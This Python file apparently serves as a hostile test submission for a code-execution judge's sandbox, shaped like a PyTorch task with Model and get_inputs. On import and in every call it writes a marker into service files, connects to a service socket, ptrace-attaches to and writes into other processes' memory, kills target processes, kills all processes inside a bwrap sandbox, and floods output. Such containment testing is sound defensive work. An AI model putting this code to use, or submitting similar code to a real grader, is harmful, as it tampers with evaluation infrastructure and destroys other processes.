"""A task that attacks, wherever its judge runs its code: on import, in get_inputs and in the model.

The test puts a line in front: TARGETS = (paths of the service's files, its socket, its processes).
What gets through leaves MARK in a file or ends a process, which the test looks for.
"""
import ctypes
import os
import signal
import socket

import torch
import torch.nn as nn

FILES, SOCKET, PIDS = TARGETS  # noqa: F821
MARK = b"the task was here"
PTRACE_ATTACH = 16
FLOOD_BYTES = 16 << 20


def tried(action, *arguments):
    try:
        return action(*arguments)
    except OSError:
        return None


def write(path):
    with open(path, "ab", buffering=0) as f:
        f.write(MARK)


def patch(pid):
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as f:
        f.seek(0x400000)
        f.write(MARK)


def call(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)
        client.sendall(MARK)


def attack():
    for path in FILES:
        tried(write, path)
        tried(write, "/proc/1/root" + path)
    tried(call, SOCKET)
    tried(socket.socket, socket.AF_INET)
    libc = ctypes.CDLL(None)
    others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    for pid in PIDS + others:
        libc.ptrace(PTRACE_ATTACH, pid, 0, 0)
        tried(patch, pid)
    for pid in PIDS:
        tried(os.kill, pid, signal.SIGKILL)
    # Whoever runs this file by hand keeps a machine.
    if open("/proc/1/comm").read() == "bwrap\n":
        tried(os.kill, -1, signal.SIGKILL)
    os.write(1, b"x" * FLOOD_BYTES)


attack()


class Model(nn.Module):
    def forward(self, x):
        attack()
        return x * 2


def get_inputs():
    attack()
    return [torch.randn(64, 64)]


def get_init_inputs():
    return []
